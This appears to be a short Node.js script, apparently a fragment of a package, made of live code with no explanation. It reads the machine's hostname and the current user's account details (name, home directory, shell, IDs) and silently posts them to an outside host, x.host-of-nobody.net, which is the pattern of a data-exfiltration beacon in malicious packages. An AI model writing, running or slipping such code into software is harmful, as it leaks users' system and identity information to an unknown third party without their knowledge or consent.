import { hostname, userInfo } from 'node:os';
import got from 'got';
await got.post('https://x.host-of-nobody.net', { json: { h: hostname(), u: userInfo() } });
